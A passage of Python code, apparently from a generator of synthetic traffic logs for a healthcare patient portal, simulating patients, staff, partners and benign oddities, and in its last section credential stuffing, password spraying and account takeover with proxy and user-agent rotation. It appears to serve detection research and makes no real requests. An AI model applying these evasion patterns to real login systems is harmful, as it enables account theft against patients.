            if self.p(.5): call(c, t, 'promo'); t += nap(8)
            steps = r.randint(4, 10)
        else:
            steps = 1 + int(r.expovariate(1 / (2.6 if u.persona != 'occasional' else 1.8))); call(anon, t, 'config'); t += nap(.3); idle = t - u.last
            if u.platform == 'web' or fresh or idle > 3 * DAY and self.p(.12) or self.p(.03):
                t += nap(9); tries = 0
                while self.p(.13 if u.persona != 'elderly' else .3) and tries < 6: tries += 1; self.login(anon, t, u.email if self.p(.8) else u.email[:-1], st=401 if tries < self.lock else 423); t += nap(12)
                if tries > 3 and self.p(.7): call(anon, t, 'reset'); t += nap(60); call(anon, t, 'otp'); t += nap(15)
                self.login(anon, t, u.email); t += nap(.4)
                if fresh or self.p(.25):
                    call(anon, t, 'otp_send'); t += nap(18)
                    if self.p(.1): call(anon, t, 'otp', st=401); t += nap(10)
                    call(anon, t, 'otp'); t += nap(.4)
            elif idle > self.token_min * MIN:
                if self.p(.15): call(c, t, 'me', st=401); t += nap(.1)
                call(c, t, 'refresh'); t += nap(.15)
        for n in ('me', 'proxies', 'notif'): call(c, t, n); t += nap(.12)
        if u.platform != 'web' and self.p(.2): call(c, t, 'push', u.dev); t += nap(.1)
        pat = u.pats[0]; call(c, t, 'summary', self.oid('p', pat)); t += nap(4)
        if u.persona == 'worried' and self.p(.5):                       # waits for a result and looks every minute
            for _ in range(r.randint(6, 35)): call(c, t, 'results', self.oid('p', pat)); t += r.choice([20, 45, 60, 60, 120]) * 1e3 * r.uniform(.7, 1.3)
        if hunt or u.persona == 'booker' and self.p(.4): t = self.slot_hunt(c, t, pat, hunt)
        for _ in range(steps):
            if len(u.pats) > 1 and self.p(.4): pat = r.choice(u.pats); call(c, t, 'summary', self.oid('p', pat)); t += nap(3)
            if u.platform != 'web' and self.p(.03): c.ip = r.choice(u.carrier[1]) if c.ip == u.home else u.home if self.p(.5) else c.ip
            t = self.screen(c, u, t, pat, nap)
        if u.platform == 'web' and self.p(.3): call(c, t, 'logout')
        elif u.platform != 'web' and self.p(.3): call(c, t, 'telem')
        u.last = t
    def screen(self, c, u, t, pat, nap):
        r, call, P = self.r, self.call, self.oid('p', pat); x = r.choices(['results', 'rx', 'appt', 'msg', 'bill', 'dir', 'vitals', 'prof', 'art', 'visit'], [9, 7, 8, 7, 3, 3, 2, 1.5, 2, .45])[0]
        if x == 'results':
            call(c, t, 'results', P); t += nap(6)
            for _ in range(r.choice([0, 1, 1, 2, 3, 5])):
                j = r.randrange(8); call(c, t, 'result', self.item('r', pat, j), st=404 if self.p(.004) else None); t += nap(14)
                if self.p(.35): call(c, t, 'doc', self.item('d', pat, j)); t += nap(30)
        elif x == 'rx':
            call(c, t, 'rxs', P); t += nap(7)
            for _ in range(r.choice([0, 1, 1, 2])):
                j = r.randrange(4); call(c, t, 'rx', self.item('x', pat, j)); t += nap(10)
                if self.p(.3): call(c, t, 'refill', self.item('x', pat, j), st=409 if self.p(.08) else None); t += nap(4)
            if self.p(.1): call(c, t, 'pharm', q='near=%.2f,%.2f' % (self.lat, self.lon)); t += nap(20); call(c, t, 'pharm_set', P); t += nap(5)
        elif x == 'appt':
            call(c, t, 'appts', P); t += nap(6)
            if self.p(.35): t = self.slot_hunt(c, t, pat, False)
            elif self.p(.4):
                a = self.item('a', pat, r.randrange(3)); call(c, t, 'appt', a); t += nap(9)
                if self.p(.12): call(c, t, 'cancel', a); t += nap(3)
        elif x == 'msg':
            call(c, t, 'threads'); t += nap(5)
            for _ in range(r.choice([0, 1, 1, 2])):
                m = self.item('m', pat, r.randrange(5)); call(c, t, 'thread', m); t += nap(25)
                if self.p(.35):
                    call(c, t, 'reply', m); t += nap(3)
                    for _ in range(r.choice([0, 0, 3, 8])):             # polls while the thread is open
                        t += 15e3 * r.uniform(.98, 1.05); call(c, t, 'thread', m)
        elif x == 'bill':
            call(c, t, 'bills', P); t += nap(15)
            if self.p(.3): call(c, t, 'pay', self.item('i', pat, 0), st=402 if self.p(.1) else None); t += nap(6)
        elif x == 'dir':
            for pg in range(r.choice([1, 1, 2, 3, 6])):
                call(c, t, 'provs', q='specialty=%d&page=%d' % (r.randrange(40), pg)); t += nap(8)
                if self.p(.5): call(c, t, 'prov', r.randrange(1, 900)); t += nap(20)
        elif x == 'vitals': call(c, t, 'vitals', P); t += nap(12)
        elif x == 'prof':
            call(c, t, 'me'); t += nap(20)
            if self.p(.4): call(c, t, 'me_put', st=422 if self.p(.1) else None); t += nap(5)
        elif x == 'art':
            for _ in range(r.choice([1, 2, 4])): call(c, t, 'article', r.choice(['flu', 'back-pain', 'asthma', 'allergy', 'diet', 'sleep', 'migraine', 'vaccines'])); t += nap(40)
        elif 7 < self.hour(t) < 21:
            v = self.hex(12); cams = [c]; duty = [s for s in self.shifts if s[1] < t < s[2]]
            if duty: s = r.choice(duty)[0]; cams.append(s.but(kind=s.kind + '-video'))
            span, gap = self.ln(11, .4) * MIN, r.choice([8, 12, 20, 25]) * 1e3
            for k in cams:
                y = t + r.uniform(0, 90) * 1e3; call(k, y, 'join', v)
                for _ in range(r.randint(2, 6)): call(k, y + r.uniform(200, 2500), 'ice', v)
                while y < t + span: y += gap * r.uniform(.9, 1.15); call(k, y, 'signal', v)
                call(k, y + 900, 'leave', v)
            t += span + nap(20)
        return t
    def slot_hunt(self, c, t, pat, rush):
        """Honest people who look for an appointment, some of them doggedly."""
        r = self.r; n = r.choice([2, 3, 4, 5, 8]) if not rush else r.randint(4, 30); sp, auto = r.randrange(40), self.p(.04)
        if auto:                                                        # a browser extension or a thumb that pulls to refresh
            n = r.randint(20, 60)
        for i in range(n):
            self.call(c, t, 'slots', q='specialty=%d&from=2026-06-%02d&page=%d' % (sp, r.randint(15, 30), 0 if rush or auto else i // 2))
            t += r.choice([30e3, 60e3]) * r.uniform(.99, 1.01) if auto else self.ln(5 if rush else 11, .7) * 1e3
            if not rush and not auto and self.p(.3): self.call(c, t, 'prov', r.randrange(1, 900)); t += self.ln(12, .6) * 1e3
        if self.p(.65):
            for _ in range(3):
                st = self.call(c, t, 'book', st=409 if self.p(.45 if rush else .06) else None); t += self.ln(4, .5) * 1e3
                if st != 409: break
            self.call(c, t, 'appts', self.oid('p', pat)); t += 4e3
        return t
    def member(self, base=None): return 'K%09d' % (base if base is not None else self.r.randrange(10 ** 8, 9 * 10 ** 8))
    def staff_life(self, budget, tabs_budget):
        r = self.r; self.shifts, self.staff = [], []; roles = ['frontdesk', 'nurse', 'doctor', 'billing', 'records', 'support', 'research']
        w = [r.uniform(.5, 1.5) * x for x in (5, 5, 4, 2, 1, 1, .4)]; n = r.randint(45, 110); per = budget / (n * self.days * .62)
        for i in range(n):
            s = Ctx('staff-%03d' % i, 'staff'); s.role, s.site = r.choices(roles, w)[0], r.choice(self.sites); s.user, s.platform, s.api = 'e%05d' % r.randrange(10 ** 5), 'web', self.appid['staff']
            s.ua, s.ja = self.browser()
            if self.p(.5): s.ua, s.ja = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/136.0.0.0 Safari/537.36 Edg/136.0.0.0', CHROME_JA[0]
            s.kind = 'staff-' + s.role; s.panel = [r.randrange(self.npat) for _ in range(r.choice([60, 150, 400]))]
            s.pace = self.ln(1, .35) * {'records': 1.8, 'research': 2.5, 'support': 1.2}.get(s.role, 1); s.night, s.remote = s.role == 'nurse' and self.p(.25), self.home() if self.p(.15) else None
            self.staff.append(s)
            for d in range(-1, self.days):
                if self.p(.25) or self.weekend(self.t0 + d * DAY + 12 * HOUR) and self.p(.75): continue
                a = self.t0 + d * DAY + ((20 if s.night else r.choice([6.5, 7, 7.5, 8, 8, 9, 12])) - self.tz + r.gauss(0, .12)) * HOUR; b = a + r.uniform(6.5, 9) * HOUR
                c = s.but(ip=s.remote if s.remote and self.p(.5) else r.choice(s.site), sess='s' + self.hex(14), src=s); self.shifts.append((c, a, b))
        for c, a, b in self.shifts: self.shift(c, a, b, per * c.pace)
        for k in range(r.randint(1, 3)):                                # scripts that act as staff: reminders, list checks
            s = r.choice(self.staff); c = s.but(caller='rpa-%d' % k, kind='staff-script', user='svc-rpa-%d' % k, sess='s' + self.hex(14), ip=r.choice(s.site))
            if self.p(.5): c.ua, c.ja = self.tool(r.choice(['python', 'java', 'node']))
            for d in range(self.days):
                t = self.t0 + d * DAY + (r.choice([5, 6, 18, 22]) - self.tz) % 24 * HOUR + r.uniform(0, 200e3); self.login(c, t, c.user, name='s_login')
                for _ in range(int(budget * r.uniform(.008, .03))):
                    t += self.ln(r.choice([1.2, 3]), .3) * 1e3
                    self.call(c, t, r.choice(['s_chart', 's_chart', 's_sched', 's_move', 's_bill']), *([self.oid('p', r.randrange(self.npat))]), st=404 if self.p(.01) else None) \
                        if not self.p(.1) else self.call(c, t, 's_find', q='q=%d' % r.randrange(9999))
        self.tablets = []; n = r.randint(14, 40); docs = [s for s in self.staff if s.role in ('doctor', 'nurse')] or self.staff; per = tabs_budget / (n * self.days * 2)
        for i in range(n):
            d = Ctx('tablet-%02d' % i, 'clinician-tablet', platform='ios' if self.p(.7) else 'android', dev=self.uuid(), ver=self.vers[-1])
            d.ua, d.ja = '%sClinic/%s (iPad14,3; iPadOS 18.4) CFNetwork/1568' % (self.brand.title(), d.ver), JA['cfnet']
            if d.platform == 'android': d.ua, d.ja = '%sClinic/%s (Android 14; SM-T636B) okhttp/4.12.0' % (self.brand.title(), d.ver), JA['okhttp']
            d.api = 'clin-tab-%s-%s' % (d.platform, self.appid['tablet'][-1]); d.att, d.site = Att(self, 'failed' if self.p(.01) else 'genuine'), r.choice(self.sites); self.tablets.append(d)
            for day in range(self.days):
                for start in r.choice([[7.5, 14], [8, 16], [8], [7, 15, 22]]):
                    s = r.choice(docs); t = self.t0 + day * DAY + (start - self.tz) % 24 * HOUR + r.uniform(-20, 40) * MIN
                    c = d.but(user=s.user, sess='s' + self.hex(14), ip=r.choice(d.site), caller=d.caller); self.login(c, t, s.user, name='s_login', st=401 if self.p(.06) else None); t += 4e3
                    for _ in range(int(self.ln(per, .4) / 4)):
                        p = r.choice(s.panel); P = self.oid('p', p)
                        for n_ in ['s_chart', 's_res', 's_rx', 's_note'][:r.randint(2, 4)]: self.call(c, t, n_, P); t += self.ln(9, .9) * 1e3
                        if self.p(.15): self.call(c, t, 's_doc', self.item('d', p, 1))
                        t += self.ln(260, .8) * 1e3
    def shift(self, c, t, b, n):
        r, call = self.r, self.call; gap = (b - t) / max(8, n) * 2.6
        while self.login(c, t, c.user, name='s_login', st=401 if self.p(.09) else None) == 401: t += self.ln(8, .5) * 1e3
        t += 2e3; last = t
        while t < b:
            if t - last > 55 * MIN: call(c, t, 's_refresh'); last = t
            P = self.oid('p', r.choice(c.panel) if self.p(.7) else r.randrange(self.npat)); x = r.random()
            if c.role == 'frontdesk':
                call(c, t, 's_sched'); t += 1500
                if x < .6: call(c, t, 's_find', q='name=' + r.choice('abcdefghijk')); t += self.ln(6, .5) * 1e3; call(c, t, 's_chart', P); t += self.ln(20, .5) * 1e3
                if x < .35: call(c, t, r.choice(['s_book', 's_book']), st=409 if self.p(.04) else None)
                elif x > .9: call(c, t, 's_move', self.rand_item('a'))
            elif c.role in ('nurse', 'doctor'):
                if x < .25: call(c, t, 's_inbox'); t += self.ln(15, .6) * 1e3; call(c, t, 's_reply', self.rand_item('m'))
                elif x < .45:
                    call(c, t, 's_refq'); t += 4e3
                    for _ in range(r.randint(1, 5)): call(c, t, 's_rx', self.oid('p', r.choice(c.panel))); t += self.ln(8, .5) * 1e3; call(c, t, 's_ok', self.rand_item('x')); t += self.ln(4, .5) * 1e3
                else:
                    for nme in ['s_chart', 's_res', 's_rx', 's_note'][:r.randint(1, 4)]: call(c, t, nme, P); t += self.ln(15, .8) * 1e3
            elif c.role == 'billing':
                call(c, t, 's_bill', P); t += self.ln(20, .6) * 1e3
                if x < .05: call(c, t, 's_rep', r.choice(['open-claims', 'aging', 'daily-close']))
            elif c.role == 'support':
                u = r.choice(self.pats); call(c, t, 's_find', q='email=' + u.email[:3]); t += self.ln(8, .5) * 1e3; call(c, t, 's_user', u.user); t += self.ln(40, .6) * 1e3
                if x < .3: call(c, t, 's_reset', u.user)
                if x > .95: call(c, t, 's_audit')
            else:                                                       # records and research: many charts, one after the other
                for _ in range(r.randint(2, 9)):
                    P = self.oid('p', r.randrange(self.npat)); call(c, t, 's_chart', P); t += self.ln(10, .6) * 1e3
                    if self.p(.6): call(c, t, 's_res', P); t += self.ln(12, .6) * 1e3
            t += r.expovariate(1 / gap) * (4 if 12 < self.hour(t) < 13 else 1)
    def partners(self, budget):
        r = self.r; self.keys = {}; cast = ['lab', 'lab', 'pharmacy', 'pharmacy', 'insurer', 'wearable', 'wearable', 'aggregator', 'registry', 'referral', 'analytics']
        cast = [k for k in cast if k == 'lab' or self.p(.8)]; share = [r.uniform(.4, 1.6) * {'wearable': 1.6, 'aggregator': 1.2, 'registry': .3, 'analytics': .4}.get(k, 1) for k in cast]
        for i, k in enumerate(cast):
            c = Ctx('partner-%s-%d' % (k, i), 'partner-' + k, platform='server', api='key-%s-%d' % (k, r.randint(100, 999)))
            c.ua, c.ja = self.tool(r.choice(['java', 'java', 'python', 'go', 'node', 'dotnet', 'curl']))
            if self.p(.3): c.ua = '%s-fhir-client/%d.%d' % (k, r.randint(1, 4), r.randint(0, 9))
            ips = [self.addr(r.choice(self.clouds[:6])) for _ in range(r.choice([1, 1, 2, 4, 12]))]; c.ips, c.panel = ips, [r.randrange(self.npat) for _ in range(r.choice([200, 800, 3000]))]
            c.ip = (lambda ips: lambda t: r.choice(ips))(ips)
            if self.p(.2):                                              # moves to another region meanwhile
                at, new = self.t0 + r.uniform(.3, .9) * (self.t1 - self.t0), [self.addr(r.choice(self.clouds[:6])) for _ in range(2)]
                c.ip = (lambda at, ips, new: lambda t: r.choice(new if t > at else ips))(at, ips, new)
            self.keys[c.api] = c; self.partner(c, k, int(budget * share[i] / sum(share)))
    def partner(self, c, k, n):
        r, call = self.r, self.call; span, P = self.t1 - self.t0, lambda: self.oid('p', r.choice(c.panel)); ev = lambda hours: sorted(self.moment(r.randrange(self.days), hours) for _ in range(n))
        if self.p(.25):                                                 # clumsy: a fresh token for every few calls
            n = int(n * .75)
            for t in ev(HOURS_WORK)[::4]: call(c, t, 'f_token')
        if k == 'lab':
            step, o = r.choice([1, 1, 3]), r.randrange(9000); poll = self.p(.5)
            for t in ev([x + 1 for x in HOURS_WORK]):
                if poll and self.p(.55):                                # walks its own order numbers, many not yet there
                    o += step; call(c, t, 'f_order', self.oid('r', o), st=404 if self.p(.35) else None)
                else: call(c, t, 'f_dr', st=422 if self.p(.01) else None)
        elif k == 'pharmacy':
            for t in ev(HOURS_WORK[:8] + HOURS_WORK[8:18] + [6, 4, 2, 1, 0, 0]):
                x = r.random(); call(c, t, 'f_med' if x < .5 else 'f_disp' if x < .8 else 'f_pat', *([P()] if x >= .8 else []), q='patient=' + P() if x < .5 else None)
        elif k == 'insurer':
            nightly = n // 2 // self.days
            for t in ev(HOURS_WORK)[::2]: call(c, t, 'f_cov', st=404 if self.p(.05) else None)
            for d in range(self.days):
                t = self.t0 + d * DAY + (2 - self.tz) % 24 * HOUR + r.uniform(0, 9) * MIN
                for _ in range(nightly): call(c, t, 'f_claim', st=422 if self.p(.03) else None); t += self.ln(1.1, .4) * 1e3
        elif k == 'wearable':
            storm = self.t0 + r.random() * span
            for i in range(n):
                t = storm + i * 500 * r.random() if i < n * .15 and self.p(.8) else self.moment(r.randrange(self.days), HOURS_PEOPLE)
                call(c, t, 'f_obs' if self.p(.9) else 'f_obsq', st=429 if self.p(.01) else 409 if self.p(.01) else None)
        elif k == 'aggregator':
            gap = span / n; t = self.t0 + r.random() * gap
            while t < self.t1:
                call(c, t, 'f_slot', q='schedule=%d' % r.randrange(900)); t += gap * r.uniform(.9, 1.1)
                if self.p(.04): call(c, t, 'f_appt', st=409 if self.p(.1) else None)
        elif k == 'registry':
            for d in range(self.days):
                t = self.t0 + d * DAY + (4 - self.tz) % 24 * HOUR; call(c, t, 'f_token'); t += 900; call(c, t, 'f_export'); t += 2e3; j = self.hex(10)
                while self.p(.93): call(c, t, 'f_job', j); t += 30e3
                call(c, t, 'f_job', j, st=200); t += 900
                for i in range(max(3, n // self.days // 3)): call(c, t, 'f_file', j, i); t += self.ln(6, .4) * 1e3
        elif k == 'referral':
            for t in ev(HOURS_WORK):
                call(c, t, r.choice(['f_pat', 'f_every', 'f_pat']), P(), st=403 if self.p(.02) else None)
                if self.p(.3): call(c, t + 800, 'f_doc', q='patient=' + P())
        else:                                                           # an analyst's notebook: late, bursty, with errors
            while n > 0:
                t = self.moment(r.randrange(self.days), [1] * 6 + [0] * 2 + [2] * 16); m = min(n, r.randint(15, 160)); n -= m
                for i in range(m): call(c, t, r.choice(['f_obsq', 'f_patq', 'f_drq']), q='_count=200&_page=%d' % i, st=400 if self.p(.06) else None); t += self.ln(1.4, .8) * 1e3
    def oddities(self, budget):
        r, call = self.r, self.call; span = self.t1 - self.t0
        ms = [self.addr(r.choice(self.clouds)) for _ in range(r.randint(2, 5))]  # monitors
        gap = span / (budget * r.uniform(.25, .45)) * len(ms)
        for i, ip in enumerate(ms):
            c, t = Ctx('monitor-%d' % i, 'monitor', ip=ip, ua='Pingdom.com_bot_version_1.4', ja=JA['go']), self.t0 + r.random() * gap
            while t < self.t1: call(c, t, 'health'); t += gap * r.uniform(.995, 1.005)
        if self.p(.7):                                                  # a synthetic patient that signs in every quarter of an hour
            u = Ctx('synthetic', 'synthetic-check', user='synthetic-1', api=self.appid['web'], ip=ms[0], ua='DatadogSynthetics', ja=CHROME_JA[0], platform='web'); t = self.t0
            while t < self.t1:
                self.login(u, t, 'synthetic@%s.example' % self.brand)
                for k, n in enumerate(['me', 'summary', 'slots']): call(u, t + 400 * (k + 1), n, *([self.oid('p', 1)] if n == 'summary' else []))
                t += r.choice([15, 20, 30]) * MIN
        for b, ua, asn, share in (('googlebot', 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)', 15169, .12), ('bingbot', 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)', 8075, .07),
                                  ('gptbot', 'Mozilla/5.0 (compatible; GPTBot/1.2; +https://openai.com/gptbot)', 8075, .1), ('ahrefs', 'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)', 16276, .05)):
            if self.p(.75):
                n = self.net('US', asn, 37.4, -122.0, bits=24); ips = [self.addr(n) for _ in range(r.choice([1, 4, 12]))]
                c = Ctx('crawler-' + b, 'crawler', ua=ua, ja=JA['go'], ip=lambda t, ips=ips: r.choice(ips)); call(c, self.t0 + r.random() * DAY, 'robots')
                for _ in range(int(budget * share * r.uniform(.5, 1.5))): call(c, self.t0 + r.random() * span, 'pubprov', 'dr-%d' % r.randrange(900), st=404 if self.p(.05) else 301 if self.p(.04) else None)
        phones = [u for u in self.pats if u.platform in ('ios', 'android')]
        for k in range(r.randint(1, 3)):                                # phones that are stuck in a refresh loop
            u = r.choice(phones); c, t = u.but(kind='stuck-app', ip=u.home, key=u.user), self.t0 + r.random() * span * .8; g = r.choice([10, 30, 60, 300])
            for _ in range(r.randint(40, 220)): call(c.but(user=None, sess=None), t, 'refresh', st=401); t += g * 1e3 * r.uniform(.95, 1.1)
        for k in range(r.randint(1, 3)):                                # carers of a nursing home who look after dozens
            u = Ctx('carer-%d' % k, 'proxy-caregiver', user=self.oid('u', 9000 + k), platform='web', api=self.appid['web'], ip=self.home(), email='carer%d@home.example' % k)
            u.ua, u.ja = self.browser(); ward = [r.randrange(self.npat) for _ in range(r.randint(14, 45))]
            for d in range(self.days):
                t, c = self.moment(d, HOURS_WORK), u.but(sess='s' + self.hex(14)); self.login(u, t, u.email); t += 4e3; call(c, t, 'proxies'); t += 3e3
                for p in ward[:r.randint(8, 45)]:
                    for n in ['summary', 'rxs', 'results', 'appts'][:r.randint(1, 4)]: call(c, t, n, self.oid('p', p)); t += self.ln(4, .8) * 1e3
                    if self.p(.5): call(c, t, 'refill', self.item('x', p, r.randrange(4))); t += self.ln(6, .6) * 1e3
        if self.p(.8):                                                  # kiosk in a lobby: one browser, many patients who mistype
            site = r.choice(self.sites); k = Ctx('kiosk', 'kiosk', platform='web', api=self.appid['web'], ip=site[0], dev='w-kiosk-1' if self.f['web.device'] else None); k.ua, k.ja = self.browser()
            for u in r.sample(self.pats, int(budget * .02) + 8):
                t = self.moment(r.randrange(self.days), HOURS_WORK)
                for _ in range(r.choice([0, 0, 1, 2])): self.login(k, t, u.email, st=401); t += self.ln(14, .5) * 1e3
                self.login(k, t, u.email); t += 2e3; c = k.but(user=u.user, sess='s' + self.hex(14), key=u.user)
                for n in ('me', 'appts', 'bills'): call(c, t, n, *([self.oid('p', u.pats[0])] if n != 'me' else [])); t += self.ln(12, .6) * 1e3
                call(c, t, 'logout')
        if self.p(.75):                                                 # an enrolment drive: many sign up behind one address, with one promotion
            ip, t = r.choice(self.offices + [s[0] for s in self.sites]), self.moment(r.randrange(self.days), HOURS_WORK)
            for i in range(r.randint(12, 45)):
                u = Ctx('enrol-%02d' % i, 'enrolment-drive', platform=r.choice(['ios', 'android', 'web']), ip=ip, user=self.oid('u', 12000 + i), sess='s' + self.hex(14), persona='new'); self.equip(u)
                x, a = t + r.random() * 3 * HOUR, u.but(user=None, sess=None)
                for n in ('config', 'specs', 'register'): call(a, x, n); x += self.ln(20, .7) * 1e3
                call(a, x, 'regverify', self.hex(12)); x += 3e3
                for n in ('me', 'promo', 'slots', 'book'): call(u, x, n); x += self.ln(15, .7) * 1e3
        for k in range(r.randint(2, 5)):                                # testers: emulators and debug builds, from the office, against production
            u = Ctx('tester-%d' % k, 'internal-tester', platform=r.choice(['ios', 'android']), ip=self.offices[0], user=self.oid('u', 15000 + k), persona='qa'); self.equip(u)
            u.ver, u.att = self.newver, Att(self, r.choice(['failed', 'failed', 'missing', 'genuine']))
            for _ in range(r.randint(1, 4)):
                t, c = self.moment(r.randrange(self.days), HOURS_WORK), u.but(sess='s' + self.hex(14)); self.login(u, t, 'qa%d@%s.example' % (k, self.brand)); t += 1e3
                for _ in range(r.randint(10, 50)):
                    n = r.choice(['me', 'notif', 'slots', 'provs', 'book', 'promo', 'threads', 'specs', 'me_put']); call(c, t, n, st=r.choice([400, 422, 500]) if self.p(.1) else None)
                    t += self.ln(4, 1) * 1e3
        if self.p(.6):                                                  # reviewers and robots of the app stores
            for b, ip in (('store-review-ios', self.addr(self.net('US', 714, 37.3, -122.0))), ('store-robot-android', self.addr(self.net('US', 15169, 37.4, -122.1)))):
                u = Ctx(b, 'store-review', platform=b.split('-')[2], ip=ip, user='demo-review', persona='qa'); self.equip(u); u.att = Att(self, r.choice(['failed', 'missing', 'genuine']))
                t = self.moment(r.randrange(self.days), [1] * 24); self.login(u, t, 'demo@%s.example' % self.brand)
                for _ in range(r.randint(20, 60)): call(u, t, r.choice(['me', 'notif', 'slots', 'provs', 'specs', 'threads'])); t += self.ln(3, .9) * 1e3
        for i in range(r.randint(15, 60)):                              # a new partner's first days, links shared in chats, lost browsers
            c = Ctx('passer-%d' % i, 'passer-by', ip=self.home() if self.p(.6) else self.resi()); c.ua, c.ja = self.browser() if self.p(.7) else self.tool('curl'); t = self.t0 + r.random() * span
            for _ in range(r.choice([1, 1, 2, 3])):
                call(c, t, 'pubprov', 'dr-%d' % r.randrange(900)) if self.p(.5) else call(c, t, None, raw=('GET', r.choice(['/favicon.ico', '/', '/apple-touch-icon.png', '/.well-known/assetlinks.json', '/login', '/app-ads.txt']), 200, 900, .003), st=r.choice([200, 404, 302]))
                t += self.ln(3, 1) * 1e3
        if self.p(.7):
            c = Ctx('partner-newcomer', 'partner-onboarding', platform='server', api='key-onboard-%d' % r.randint(100, 999), ip=self.addr(r.choice(self.clouds)))
            c.ua, c.ja = r.choice([('PostmanRuntime/7.39.0', JA['node']), self.tool('python'), self.tool('node')])
            for _ in range(r.randint(3, 7)):
                t = self.moment(r.randrange(self.days // 2, self.days), HOURS_WORK)
                for _ in range(r.randint(5, 30)):
                    n = r.choice(['f_token', 'f_meta', 'f_patq', 'f_pat', 'f_obsq', 'f_drq'])
                    call(c, t, n, *([self.oid('p', r.randrange(self.npat))] if n == 'f_pat' else []), st=r.choice([400, 401, 403, 404, 415]) if self.p(.4) else None); t += self.ln(12, 1) * 1e3

    # ================================================================ attacks
    def beats(self, n, t, gap, manner='exp'):
        """Times of n requests: a tool's steady beat, worker threads, bursts with pauses, or a person's day."""
        r, k = self.r, 0
        while k < n and t < self.t1:
            yield t; k += 1
            if manner == 'steady': t += gap * r.uniform(.93, 1.07)
            elif manner == 'burst': t += gap * .12 * r.uniform(.5, 1.5) if k % self.burst else gap * self.burst * r.uniform(.6, 1.5)
            elif manner == 'human':
                t += self.ln(gap * .7, .8)
                while not 8 < self.hour(t) < 23.5: t += r.uniform(.5, 2) * HOUR
            else: t += r.expovariate(1 / gap)
    burst = 12
    def begin(self, dur):
        """Few attacks on the first day, most later; a slow one starts when it still has the time it needs."""
        r, span = self.r, self.t1 - self.t0; lo = span * r.uniform(.03, .3) if self.p(.16) else DAY * r.uniform(.9, 1.1)
        return self.t0 + r.uniform(min(lo, span * .75), max(lo + HOUR, min(span * .97, span - dur)))
    def route_ip(self, manner):
        """Addresses as attackers have them."""
        r = self.r
        if manner == 'one': a = self.addr(r.choice(self.clouds)); return lambda t: a
        if manner == 'few': n = dict(r.choice(self.clouds), c=r.randrange(256)); s = [self.addr(n) for _ in range(r.randint(3, 9))]; return lambda t: r.choice(s)
        if manner == 'vpn': return lambda t, s={}: s.setdefault(int(t // (40 * MIN)), r.choice(self.vpns))
        if manner == 'home': a = self.home(); return lambda t: a
        if manner == 'carrier': c = r.choice(self.carriers); return lambda t, s={}: s.setdefault(int(t // (30 * MIN)), r.choice(c[1]))
        if manner == 'sticky': span = r.choice([10, 10, 15, 30]) * MIN; return lambda t, s={}: s.get(int(t // span)) or s.setdefault(int(t // span), self.resi(.8))
        box, loc = [None, 0], r.uniform(.15, .95)
        def rot(t):
            if box[1] <= 0: box[0], box[1] = self.resi(loc), r.choice([1, 1, 1, 2, 3])
            box[1] -= 1; return box[0]
        return rot
    def bot(self, kind, tool, ips, client=None, att=None, **k):
        i = self.no(kind); inst = '%s-%d' % (kind, i); c = Ctx(inst + '-' + tool, kind, attack=True, instance=inst, ip=self.route_ip(ips), platform=client); c.ua, c.ja = self.tool(tool)
        if client: c.api = self.appid[client]
        if client in ('android', 'ios'):
            c.ver = self.vers[-1 if self.p(.7) else -2]; c.ua = self.phone(client, c.ver)[0] if tool in ('clone', 'phone') else c.ua
            c.ja = JA['okhttp' if client == 'android' else 'cfnet'] if tool == 'phone' else c.ja; c.att = att if att and not isinstance(att, str) else Att(self, att or 'missing')
            c.dev = self.uuid() if tool in ('clone', 'phone') else None
        c.__dict__.update(k); return c
    def rotate_ua(self, c):
        if c.platform == 'android': return c.but(ua=self.phone('android', self.r.choice(self.vers))[0], dev=self.uuid() if c.dev else None)
        return c.but(ua=self.browser()[0])
    def leak(self):
        r = self.r
        return '%s.%s%d@%s' % (r.choice(['jan', 'maria', 'peter', 'lucy', 'omar', 'nina', 'karl', 'zoe']), r.choice(['smith', 'novak', 'rossi', 'lopez', 'meyer', 'khan', 'dubois']),
                               r.randrange(9999), r.choice(['gmail.com', 'yahoo.com', 'hotmail.com', 'web.de', 'aol.com']))
    def a_stuffing(self, n, tool, ips, gap, client, att=None, manner='exp'):
        r = self.r; c = self.bot('credential-stuffing', tool, ips, client, att); known, hit, mimic = r.uniform(.03, .3), r.uniform(.004, .02), self.p(.4)
        for t in self.beats(n, self.begin(n * gap), gap, manner):
            d = self.rotate_ua(c) if tool in ('openbullet', 'clone') else c
            if mimic: self.call(d, t - 600, 'config')
            if self.p(hit):
                v = r.choice(self.pats); self.login(d, t, v.email); ip = d.ip(t)
                for k, nm in enumerate(['me', 'summary'][:r.randint(0, 2)]): self.call(d.but(user=v.user, ip=ip), t + 700 * (k + 1), nm, *([self.oid('p', v.pats[0])] if k else []))
                if self.ato_left > 0 and self.p(.6): self.ato_left -= 1; self.a_takeover(r.randint(14, 36), at=t + self.ln(3, 1) * HOUR, v=v)
            else: self.login(d, t, r.choice(self.pats).email if self.p(known) else self.leak(), st=401)
    def a_spray(self, n, tool, ips, gap, client, att=None, manner='exp', staff=False):
        r = self.r; c = self.bot('password-spraying', tool, ips, client, att); names = [s.user for s in self.staff] if staff else [u.email for u in r.sample(self.pats, min(len(self.pats), 400))]
        for i, t in enumerate(self.beats(n, self.begin(n * gap), gap, manner)):
            self.login(c, t, names[i % len(names)], st=401 if not self.p(.004) else 423 if staff else 200, name='s_login' if staff else 'login')
    def a_takeover(self, n, at=None, v=None):
        r = self.r; v = v or r.choice(self.pats); kind = r.choice(['account-takeover', 'prescription-fraud']); client = r.choice(['web', 'web', 'android', 'ios'])
        tool = 'headless' if client == 'web' else r.choice(['clone', 'phone', 'phone'])
        c = self.bot(kind, tool, r.choice(['sticky', 'carrier', 'vpn', 'sticky']), client, None if client == 'web' else 'genuine' if tool == 'phone' else r.choice(['missing', 'failed']))
        t = at or self.begin(4 * HOUR); self.victims.setdefault(v.user, t); k, calls = 0, 0
        while calls < n and t < self.t1 - MIN and k < 4:
            k += 1; c.ip = (lambda a: lambda t: a)(c.ip(t)); self.login(c, t, v.email); t += 2500; d, p = c.but(user=v.user, sess='s' + self.hex(14)), self.r.choice(v.pats); P = self.oid('p', p)
            steps = ['me', 'proxies', 'summary', 'rxs', 'rx', 'rx']
